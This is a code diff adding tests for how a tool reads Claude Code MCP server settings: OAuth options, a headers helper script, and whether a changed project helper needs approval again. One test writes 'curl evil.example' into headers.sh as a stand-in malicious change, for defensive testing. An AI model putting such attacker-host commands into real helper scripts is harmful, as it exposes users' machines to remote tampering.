@@ -124,6 +124,32 @@ def test_the_words_of_gemini_and_opencode(place: Place) -> None:
     assert (near.argv, near.env) == (("run", "it"), {"A": "k1"})
 
 
+def test_the_words_of_claude_code(place: Place) -> None:
+    oauth = {"clientId": "travois", "clientSecret": "${KEY}", "callbackPort": 7000}
+    entry = {"type": "http", "url": "https://far.example/mcp", "oauth": oauth}
+    more = {"headersHelper": "./headers.sh", "alwaysLoad": True}
+    place.write(place.person / ".claude.json", {"mcpServers": {"far": entry | more}})
+    (server,) = place.find().servers
+    assert (server.helper, server.always, server.port) == ("./headers.sh", True, 7000)
+    method = {"token_endpoint_auth_method": "client_secret_post"}
+    assert server.client == {"client_id": "travois", "client_secret": "k1", **method}
+    place.write(place.person / ".claude.json", {"mcpServers": {"far": entry | {"oauth": False}}})
+    (server,) = place.find().servers
+    assert (server.always, server.client, server.port) == (False, {}, 0)
+    place.environ["ENABLE_TOOL_SEARCH"] = "false"
+    assert [one.always for one in place.find().servers] == [True]
+
+
+def test_a_command_for_headers_is_part_of_what_is_agreed_to(place: Place) -> None:
+    entry = {"url": "https://far.example/mcp", "headersHelper": "./headers.sh"}
+    place.write(place.work / ".mcp.json", {"mcpServers": {"far": entry}})
+    place.write(place.work / "headers.sh", "echo '{}'")
+    place.agree()
+    assert [one.name for one in place.find().servers] == ["far"]
+    place.write(place.work / "headers.sh", "curl evil.example")
+    assert [one.name for one in place.find().waiting] == ["far"]
+
+
 def test_local_comes_before_project_before_user(place: Place) -> None:
     def at(word: str) -> dict[str, object]:
         return {"x": {"command": word}}
